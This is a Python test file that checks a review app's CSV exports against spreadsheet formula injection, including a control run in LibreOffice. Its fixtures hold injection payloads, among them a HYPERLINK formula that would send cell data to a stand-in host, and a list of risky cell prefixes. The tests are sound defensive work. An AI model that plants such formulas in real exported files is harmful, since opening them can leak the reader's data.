"""Every CSV the app writes is spreadsheet-safe: a round whose case references, title,
members' notes, free-text answers, observations and force response are formulas is
written as the report CSVs (internal and published) and the force's response table; no
cell may start a formula, each value reads back as it was typed, and LibreOffice Calc,
opening the files as a person would, evaluates none of them."""

from __future__ import annotations

import csv
import shutil
import subprocess
from pathlib import Path

import pytest

from desktop.core.answers import Answer
from desktop.core.spreadsheet_cells import restored
from desktop.reports.content import ReportOptions
from desktop.services import assignment_packs, coordinator_rounds, observations, report
from desktop.services.demo_panel import panel_reviews
from tests.services.exchange_world import enrolled_world, write_case_list
from tests.services.panel_world import GOOD, MEMBERS, Panel
from tests.services.publication_world import confirm_every_text

HYPERLINK = '=HYPERLINK("http://example.invalid/?x="&A1,"Open")'
REFERENCES = ("=1+1", "+1+1", "-1+1", "@SUM(1,1)")
NOTES = (HYPERLINK, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\n=1+1", " -1+1")
TITLE = HYPERLINK + " q3"
# A cell that begins like this may be run by Excel, LibreOffice or Google Sheets (OWASP).
RISKY = ("=", "+", "-", "@", "\t", "\r")


def _formula_plan(name: str, reference: str) -> dict[str, Answer]:
    """Every member writes formulas: a note on two questions and the good-practice answer
    (a review may not carry a carriage return, and an answer not a tab either)."""
    turn = (MEMBERS.index(name) + REFERENCES.index(reference)) % len(NOTES)
    return {
        **GOOD,
        "risk_identified": Answer("yes", note=NOTES[turn]),
        "hostility_recorded": Answer("yes", note=NOTES[(turn + 3) % len(NOTES)]),
        "good_practice": Answer(NOTES[turn % 5]),
    }


def _formula_case_list(folder: Path) -> tuple[Path, Path]:
    """The tests' usual case list, with every force reference a formula."""
    path, docs = write_case_list(folder, len(REFERENCES))
    with path.open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    for row, reference in zip(rows, REFERENCES, strict=True):
        row["reference"] = reference
    with path.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return path, docs


@pytest.fixture(scope="module")
def formula_panel(tmp_path_factory: pytest.TempPathFactory) -> Panel:
    root = tmp_path_factory.mktemp("formulas")
    world = enrolled_world(root, MEMBERS)
    csv_path, docs = _formula_case_list(root / "input")
    db = world.coordinator
    created = coordinator_rounds.create_round(db, csv_path, docs, title=TITLE, template_id="hate-crime")
    coordinator_rounds.auto_assign(db, created.round_id, 2)
    packs = assignment_packs.export_packs(db, created.round_id, root / "packs").packs
    fates = panel_reviews(db, world.members, packs, _formula_plan, root / "outbox")
    case_ids = [c.case.case_id for c in report.gather(db, created.round_id).findings.cases]
    for text, response in ((HYPERLINK, "=1+1"), ("@SUM(1,1) cases were late", "-1+1 days")):
        saved = observations.add_observation(db, created.round_id, text, case_ids[:2])
        observations.set_response(db, saved.observation_id, response, "2026-04-02")
    confirm_every_text(db, created.round_id)  # every text kept, so every planted formula is published
    yield Panel(world, created.round_id, fates)
    db.close()
    for member in world.members.values():
        member.close()


def _records(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.reader(f))


def _report_csvs(panel: Panel, folder: Path, mode: str) -> list[Path]:
    written = report.write_report(
        panel.world.coordinator, panel.round_id, folder / f"{mode}.csv", ReportOptions("both", mode), "csv"
    )
    return list(written.paths)


def _could_run(cell: str) -> bool:
    return cell.startswith(RISKY) or cell.lstrip().startswith(RISKY[:4])


def _restored_cells(path: Path) -> set[str]:
    return {restored(cell) for record in _records(path) for cell in record}


@pytest.mark.parametrize("mode", ["internal", "publication"])
def test_no_cell_of_a_report_csv_can_run_and_every_value_reads_back(
    formula_panel: Panel, tmp_path: Path, mode: str
) -> None:
    answers, findings, agreement = _report_csvs(formula_panel, tmp_path, mode)
    for path in (answers, findings, agreement):
        records = _records(path)
        assert len(records) > 10
        assert not [c for record in records for c in record if _could_run(c)], path.name
    stored = report.gather(formula_panel.world.coordinator, formula_panel.round_id)
    cells = [cell for case in stored.findings.cases for cell in case.cells.values()]
    notes = {g.answer.note for cell in cells for g in cell.answers} - {""}
    assert notes <= _restored_cells(answers)
    assert len(notes) >= 5  # the formulas really are in the file
    assert TITLE in _restored_cells(findings) and TITLE in _restored_cells(agreement)
    if mode == "internal":
        assert set(REFERENCES) <= _restored_cells(answers)


def test_the_response_table_is_safe_and_reads_back_what_was_typed(
    formula_panel: Panel, tmp_path: Path
) -> None:
    db, round_id = formula_panel.world.coordinator, formula_panel.round_id
    path = tmp_path / "responses.csv"
    observations.export_response_csv(db, round_id, path)
    records = _records(path)
    assert len(records) == 3
    assert not [c for record in records for c in record if _could_run(c)]
    assert "; ".join(REFERENCES[:2]) in {restored(c) for c in records[1]}
    records[2][5] = "2026-05-01"  # the force changes one date and nothing else
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f).writerows(records)
    observations.import_responses(db, round_id, path)
    rows = observations.list_observations(db, round_id)
    assert [(r.text, r.response, r.response_date) for r in rows] == [
        (HYPERLINK, "=1+1", "2026-04-02"),
        ("@SUM(1,1) cases were late", "-1+1 days", "2026-05-01"),
    ]


# --- opened by a spreadsheet ------------------------------------------------------------------


def _calc_cells(source: Path, out: Path) -> list[list[str]]:
    """The cells LibreOffice Calc shows after opening `source` (converted to CSV again)."""
    office = shutil.which("soffice") or shutil.which("libreoffice")
    assert office, "LibreOffice is installed by ./dev test"
    subprocess.run(
        [
            office, f"-env:UserInstallation={(out / 'profile').as_uri()}", "--headless",
            "--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76", "--outdir", str(out), str(source),
        ],
        check=True, timeout=180, capture_output=True,
    )  # fmt: skip
    return _records(out / source.name)


def test_libreoffice_evaluates_no_formula_we_wrote(formula_panel: Panel, tmp_path: Path) -> None:
    answers, _findings, _agreement = _report_csvs(formula_panel, tmp_path, "internal")
    ours = _records(answers)
    # The same table as it was written before cells were made safe: the control that shows
    # this LibreOffice does run formulas in a CSV it opens.
    plain = tmp_path / "plain" / "answers.csv"
    plain.parent.mkdir()
    with plain.open("w", encoding="utf-8-sig", newline="") as f:
        csv.writer(f, lineterminator="\r\n").writerows([[restored(c) for c in r] for r in ours])
    shown_plain = _calc_cells(plain, tmp_path / "plain-out")
    shown_ours = _calc_cells(answers, tmp_path / "ours-out")
    assert len(shown_plain) == len(shown_ours) == len(ours)
    every = [(r, c) for r, record in enumerate(ours) for c in range(len(record))]
    formulas = [(r, c) for r, c in every if restored(ours[r][c]) in (HYPERLINK, "=1+1")]
    assert len(formulas) >= 4
    assert {shown_plain[r][c] for r, c in formulas} == {"Open", "2"}  # the control ran them
    for r, c in formulas:
        assert shown_ours[r][c] == ours[r][c], (r, c)  # shown as the text we wrote
        assert "=" in shown_ours[r][c] and shown_ours[r][c] not in ("Open", "2")
    assert "2" not in {shown_ours[r][c] for r, c in every if ours[r][c] != "2"}  # nothing else ran
